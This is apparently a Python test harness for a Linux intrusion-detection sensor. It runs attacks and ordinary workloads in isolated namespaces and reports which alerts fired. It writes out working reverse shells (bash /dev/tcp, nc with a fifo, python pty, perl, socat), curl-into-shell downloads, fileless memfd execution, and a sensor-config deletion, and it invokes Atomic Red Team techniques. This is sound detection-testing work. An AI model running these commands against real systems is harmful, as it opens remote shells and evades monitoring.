#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Runs attacks and daily work for real and says which alerts they gave.

atomics.py own NET SOCKET RUN
atomics.py benign NET SOCKET RUN [SECONDS]
atomics.py corpus NET SOCKET RUN ATOMIC-RED-TEAM-FOLDER

Each command runs in mount, pid and ipc namespaces of its own, on an overlay of the root file system
that is thrown away, and in the net namespace NETc, so nothing of the machine is touched. Alerts are
asked from the API at SOCKET once all have run; an alert belongs to a command when a process of its
evidence descends from that command. With SECONDS, the daily work goes on, with a build of this
project among it, until they are over. Prints one line each: ok or MISS, technique, command, alert.
"""
import glob
import http.client
import json
import os
import socket
import subprocess
import sys
import time

SERVER = "10.97.0.2"

# Makes the root of this mount namespace an overlay; then runs the command with a shell.
STAGE = r"""
set -e
project=$PWD
mount --make-rprivate /
mkdir -p "$RUN/stage"
mount -t tmpfs stage "$RUN/stage"
mkdir -p "$RUN/stage/upper" "$RUN/stage/work" "$RUN/stage/root"
mount -t overlay overlay -o "lowerdir=/,upperdir=$RUN/stage/upper,workdir=$RUN/stage/work" "$RUN/stage/root"
cd "$RUN/stage/root"
mount -t proc proc proc
mount --rbind /dev dev
mount -t tmpfs -o mode=1777 tmp tmp
mkdir -p old root/project
mount --bind "$project" root/project
pivot_root . old
umount -l /old
export HOME=/root TMPDIR=/tmp PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
command -v sudo >/dev/null || printf '#!/bin/sh\nexec "$@"\n' | install -m 755 /dev/stdin /usr/local/bin/sudo
cd /root
eval "$PREPARE" >/dev/null 2>&1 || true
exec "$SHELL_NAME" -c "$COMMAND"
"""


def run(where, command, prepare="", shell="sh", seconds=15):
    """Returns the pid that all of it descends from."""
    env = {"RUN": where["run"], "COMMAND": command, "PREPARE": prepare, "SHELL_NAME": shell,
           "PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb"}
    child = subprocess.Popen(
        ["timeout", "-k", "1", str(seconds), "nsenter", "--net=/run/netns/%sc" % where["net"],
         "unshare", "--mount", "--pid", "--ipc", "--fork", "--kill-child", "sh", "-c", STAGE],
        env=env, stdin=subprocess.DEVNULL, stdout=where["log"], stderr=where["log"])
    child.wait()
    return child.pid


def alerts(where):
    class Local(http.client.HTTPConnection):
        def connect(self):
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.connect(where["socket"])
    c = Local("picket")
    c.request("GET", "/v1/alerts?limit=10000")
    return json.load(c.getresponse())["alerts"]


def pids(alert):
    found = set()
    for e in alert.get("evidences", []):
        p = e.get("process")
        if p:
            found.add(p["pid"])
            todo = [p]
            while todo:
                q = todo.pop()
                for up in [q.get("parent_process")] + q.get("ancestry", []):
                    if up and "pid" in up:
                        found.add(up["pid"])
                        todo.append(up)
    return found


def techniques(alert):
    return [a["technique"]["uid"] for a in alert["finding_info"].get("attacks", [])]


def rule(alert):
    return alert["finding_info"]["analytic"]["uid"]


def matches(wanted, have):
    """The technique itself, its parent, a child of it, or one that ATT&CK 19 renamed."""
    twins = {"T1070.003": "T1690", "T1562.001": "T1685", "T1562.003": "T1690", "T1562.004": "T1686"}
    return any(h == wanted or h.split(".")[0] == wanted or wanted.split(".")[0] == h or
               twins.get(h) == wanted for h in have)


# name, technique, detector (or None: any rule), command
OWN = [
    ("bash and /dev/tcp", "T1059.004", "reverse_shell",
     "bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'" % SERVER),
    ("a fifo, sh and nc", "T1059.004", "reverse_shell",
     "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -w 3 %s 4444 > /tmp/f" % SERVER),
    ("python, a pseudo terminal", "T1059.004", "reverse_shell",
     "/usr/bin/python3 -c 'import os,pty,socket\ns=socket.create_connection((\"%s\",4444))\n"
     "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn(\"/bin/sh\")'" % SERVER),
    ("perl", "T1059.004", "reverse_shell",
     "perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"%s\")));"
     "open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'" % SERVER),
    ("a bind shell of socat", "T1059.004", "reverse_shell",
     "socat TCP-LISTEN:5555,reuseaddr EXEC:/bin/sh,pty & sleep 1; "
     "(echo id; sleep 1) | nc -w 2 127.0.0.1 5555"),
    ("a program from memory", "T1620", "fileless",
     "/usr/bin/python3 -c 'import os\nf=os.memfd_create(\"x\")\nos.write(f,open(\"/bin/true\",\"rb\").read())\n"
     "os.execve(f,[\"x\"],{})'"),
    ("curl into a shell", "T1105", "fetch_run", "curl -s http://%s/x.sh | sh" % SERVER),
    ("a download that is run", "T1105", "fetch_run",
     "curl -sO http://%s/tool.sh; chmod +x tool.sh; ./tool.sh" % SERVER),
    ("ptrace of another process", "T1055.008", "ptrace_inject",
     "sleep 5 & /usr/bin/python3 -c 'import ctypes,sys\n"
     "print(ctypes.CDLL(None).ptrace(16,int(sys.argv[1]),0,0))' $!"),
    ("a packet socket", "T1040", "sniffing",
     "/usr/bin/python3 -c 'import socket\nsocket.socket(socket.AF_PACKET,socket.SOCK_RAW,768)'"),
    ("a program in /tmp", "T1036.005", "world_writable", "cp /bin/true /tmp/x; /tmp/x"),
    ("metadata of a cloud", "T1552.005", "metadata_access",
     "curl -s -m 1 http://169.254.169.254/latest/meta-data/"),
    ("a set-id program of its own", "T1548.001", "privilege",
     "cp /usr/bin/id /usr/local/bin/rootme; chmod 4755 /usr/local/bin/rootme; "
     "setpriv --reuid 65534 --clear-groups /usr/local/bin/rootme"),
    ("a server that starts a shell", "T1505.003", "web_shell",
     "/usr/bin/python3 -c 'import os,socket\ns=socket.create_server((\"127.0.0.1\",8080))\n"
     "os.fork() or (socket.create_connection((\"127.0.0.1\",8080)),os._exit(0))\n"
     "s.accept()\nos.system(\"id; uname -a\")'"),
    ("files of the sensor removed", "T1685", "tamper", "rm -rf /etc/picket/picket.yaml"),
]

# name, command, what is made ready before
BENIGN = [
    ("a package is installed", "dpkg -i /tmp/p.deb; apt-get -s -o Debug::NoLocking=1 install tzdata",
     "mkdir -p /tmp/p/DEBIAN /tmp/p/usr/share/p; echo x >/tmp/p/usr/share/p/x; "
     "printf 'Package: p\\nVersion: 1\\nArchitecture: all\\nMaintainer: n <n@n>\\nDescription: p\\n' "
     ">/tmp/p/DEBIAN/control; printf '#!/bin/sh\\nid >/dev/null\\nexit 0\\n' >/tmp/p/DEBIAN/postinst; "
     "chmod 755 /tmp/p/DEBIAN/postinst; dpkg-deb -b /tmp/p /tmp/p.deb"),
    ("a backup", "tar -C /usr/share -czf /root/backup.tar.gz doc/bash base-files; "
     "cp -a /usr/share/base-files /root/copy; tar -tzf /root/backup.tar.gz | wc -l", ""),
    ("a session of a person", "printf 'ls\\ncd /usr\\necho $PWD\\ngrep -c . /etc/hostname\\ndate\\nexit\\n' | "
     "script -qc 'bash -i' /dev/null", ""),
    ("a build", "make -j2", "mkdir -p /root/b; cd /root/b; for i in 1 2 3; do "
     "echo \"int f$i(void){return $i;}\" >f$i.c; done; echo 'int main(void){return 0;}' >m.c; "
     "printf 'm: m.o f1.o f2.o f3.o\\n\\t$(CC) -o $@ $^\\n\\t./m\\n' >Makefile"),
    ("a job of cron", "run-parts /root/daily", "mkdir -p /root/daily; "
     "printf '#!/bin/sh\\nfind /usr/share/doc -name NEWS | head -3\\n' >/root/daily/a; chmod 755 /root/daily/a"),
    ("pages fetched and read", "curl -s http://%s/page | wc -c; wget -qO /root/page http://%s/page; "
     "grep -c . /root/page" % (SERVER, SERVER), ""),
    ("a repository", "git -C /root/r log --oneline | wc -l; git clone -q /root/r /root/c; cd /root/c; "
     "echo b >b; git add b; git commit -qm b; git push -q origin HEAD:b; git gc -q",
     "git config --global user.email n@n; git config --global user.name n; git init -q /root/r; "
     "cd /root/r; echo a >a; git add a; git commit -qm a"),
    ("somebody logs in by SSH and copies files", "ssh -p 2222 127.0.0.1 'uptime; ls /; df -h; ps ax | wc -l'; "
     "scp -qP 2222 /etc/hostname 127.0.0.1:/root/copied; "
     "tar -C /usr/share -cf - base-files | ssh -p 2222 127.0.0.1 'cat >/root/base-files.tar'",
     "mkdir -p /run/sshd; ssh-keygen -A; ssh-keygen -qt ed25519 -N '' -f /etc/ssh/client; "
     "printf 'IdentityFile /etc/ssh/client\nStrictHostKeyChecking no\nLogLevel ERROR\n' >>/etc/ssh/ssh_config; "
     "/usr/sbin/sshd -p 2222 -o ListenAddress=127.0.0.1 -o AuthorizedKeysFile=/etc/ssh/client.pub; sleep 0.3"),
    ("logs are turned over", "logrotate -f /root/l.conf || gzip -k /root/log; journalctl -n 5 >/dev/null 2>&1; "
     "find /var/log -type f -size -100k -exec wc -c {} + | tail -1",
     "head -c 100000 /dev/zero | tr '\\0' x >/root/log; echo '/root/log { rotate 2 compress }' >/root/l.conf"),
]

# Each round of the long run has it besides.
BUILD = ("this project is built", "git clone -q /root/project /root/picket && make -sj2 -C /root/picket all", "")

# technique, part of the test's name, what replaces its arguments, what is made ready
CORPUS = [
    ("T1003.007", "memory with sh", {}, ""),
    ("T1003.008", "Access /etc/passwd (Local)", {}, ""),
    ("T1007", "systemctl/service", {}, ""),
    ("T1016.001", "using ping", {"ping_target": SERVER}, ""),
    ("T1018", "ip neighbour", {}, ""),
    ("T1027", "base64 Data into Script", {}, ""),
    ("T1027.004", "C compile", {"input_file": "/root/a.c"}, "echo 'int main(void){return 0;}' >/root/a.c"),
    ("T1030", "Data Transfer Size Limits", {"folder_path": "/root/t"}, "mkdir -p /root/t; "
     "head -c 20000000 /dev/urandom >/root/t/T1030_urandom"),
    ("T1036.003", "crond process", {}, ""),
    ("T1036.004", "bind mounts", {}, ""),
    ("T1036.005", "masquerading as the current parent", {}, ""),
    ("T1040", "tshark or tcpdump", {"interface": "lo"}, ""),
    ("T1048.002", "as text over HTTPS using wget", {"endpoint_domain": "https://%s/" % SERVER}, ""),
    ("T1049", "ss or lsof", {}, ""),
    ("T1053.003", "to all cron subfolders", {}, "mkdir -p /etc/cron.daily /etc/cron.hourly "
     "/etc/cron.monthly /etc/cron.weekly"),
    ("T1059.004", "Shell Creation using awk", {}, ""),
    ("T1070.006", "access timestamp", {}, "touch /tmp/T1070.006-access.txt"),
    ("T1070.008", "Copy and Delete Mailbox Data on Linux", {}, ""),
    ("T1071.001", "Malicious User Agents - Nix", {"domain": SERVER}, ""),
    ("T1074.001", "from Discovery.sh", {}, "echo '%s raw.githubusercontent.com' >>/etc/hosts" % SERVER),
    ("T1105", "Linux Download File and Run", {"remote_url": "http://%s/atomic.sh" % SERVER}, ""),
    ("T1132.001", "Base64 Encoded data", {"destination_url": SERVER}, ""),
    ("T1136.001", "user account on a Linux", {}, ""),
    ("T1201", "expiration policy - All Linux", {}, ""),
    ("T1217", "Firefox Bookmark Database Files on", {}, ""),
    ("T1222.002", "numeric mode", {"file_or_folder": "/root"}, ""),
    ("T1486", "using openssl", {}, ""),
    ("T1489", "stop service using systemctl", {}, ""),
    ("T1497.003", "with ping", {}, ""),
    ("T1518.001", "ps (Linux)", {}, ""),
    ("T1531", "via passwd", {}, ""),
    ("T1546.004", ".bashrc", {}, ""),
    ("T1546.005", "Trap EXIT", {}, ""),
    ("T1546.018", "usercustomize.py", {}, ""),
    ("T1548.001", "setuid bit set", {}, ""),
    ("T1552.003", "Bash History", {}, ""),
    ("T1560.002", "GZip in Python", {}, ""),
    ("T1569.003", "from /tmp", {}, ""),
    ("T1614", "IP-Lookup services using curl", {}, ""),
    ("T1614.001", "with locale", {}, ""),
    ("T1652", "Kernel Driver Files", {}, ""),
    ("T1685", "journal logging via sed", {}, ""),
    ("T1690", "Clear bash history", {}, ""),
]


def atomic(folder, technique, part, replace):
    """Command, prerequisites and shell of the test of that technique whose name has the part."""
    import yaml
    with open(os.path.join(folder, "atomics", technique + ".yaml")) as f:
        tests = yaml.safe_load(f)["atomic_tests"]
    for t in tests:
        if part.lower() in t["name"].lower() and "linux" in t["supported_platforms"]:
            break
    else:
        sys.exit("%s: no test named like %r" % (technique, part))
    args = {k: str(v.get("default", "")) for k, v in (t.get("input_arguments") or {}).items()}
    args.update(replace)

    def fill(text):
        for k, v in args.items():
            text = text.replace("#{%s}" % k, v)
        return text.replace("PathToAtomicsFolder", "/root/atomics")
    need = "\n".join("( %s ) || ( %s )" % (fill(d["prereq_command"]), fill(d["get_prereq_command"]))
                     for d in t.get("dependencies") or [] if d.get("get_prereq_command"))
    return fill(t["executor"]["command"]), need, t["executor"]["name"]


def stories(what, folder):
    """name, technique or None, detector or None, command, what is made ready, shell"""
    if what == "own":
        return [(n, t, r, c, "", "sh") for n, t, r, c in OWN]
    if what == "benign":
        return [(n, None, None, c, p, "sh") for n, c, p in BENIGN + ([BUILD] if folder else [])]
    out = []
    for technique, part, replace, prepare in CORPUS:
        command, need, shell = atomic(folder, technique, part, replace)
        out.append((command.strip().replace("\n", "; ")[:60], technique, None, command,
                    prepare + "\n" + need, "bash" if shell == "bash" else "sh"))
    return out


def main():
    what, net, sock, where_to = sys.argv[1:5]
    where = {"net": net, "socket": sock, "run": where_to,
             "log": open(os.path.join(where_to, "%s.out" % what), "w")}
    more = sys.argv[5] if len(sys.argv) > 5 else None
    end = time.monotonic() + (float(more) if what == "benign" and more else 0)
    told, got = [], {}
    while not told or time.monotonic() < end:
        for name, technique, wanted, command, prepare, shell in stories(what, more):
            where["log"].write("== %s\n" % name)
            where["log"].flush()
            told.append((name, technique, wanted, run(
                where, command, prepare, shell, 300 if name == BUILD[0] else 15)))
        time.sleep(3)
        got.update({a["metadata"]["uid"]: a for a in alerts(where)})
    got = [(pids(a), a) for a in got.values()]
    if what == "benign":
        return benign(told, got)
    found, bad = set(), 0
    for name, technique, wanted, pid in told:
        mine = [a for p, a in got if pid in p]
        right = [a for a in mine if matches(technique, techniques(a)) and
                 (not wanted or rule(a) == wanted)]
        bad += not right
        if right:
            found.add(technique)
        print("%-5s %-10s %-60s %s" % ("ok" if right else "MISS", technique, name, ", ".join(sorted(
            {a["finding_info"]["title"] + " " + "/".join(techniques(a)) for a in right or mine}))))
    print("techniques %d of %d, wrong %d" % (len(found), len({t for _, t, _, _ in told}), bad))
    return bad


def benign(told, got):
    """A line for each kind of work, however often it was done."""
    bad = 0
    for name in dict.fromkeys(name for name, _, _, _ in told):
        roots = {pid for n, _, _, pid in told if n == name}
        mine = [a for p, a in got if roots & p]
        high = [a for a in mine if a["severity_id"] > 2]
        bad += bool(high)
        print("%-5s %-45s %3d times  %s" % ("ALERT" if high else "ok", name, len(roots), ", ".join(
            sorted({"%s (%s)" % (a["finding_info"]["title"], a["severity"])
                    for a in high or mine})) or "-"))
    return bad


sys.exit(1 if main() else 0)
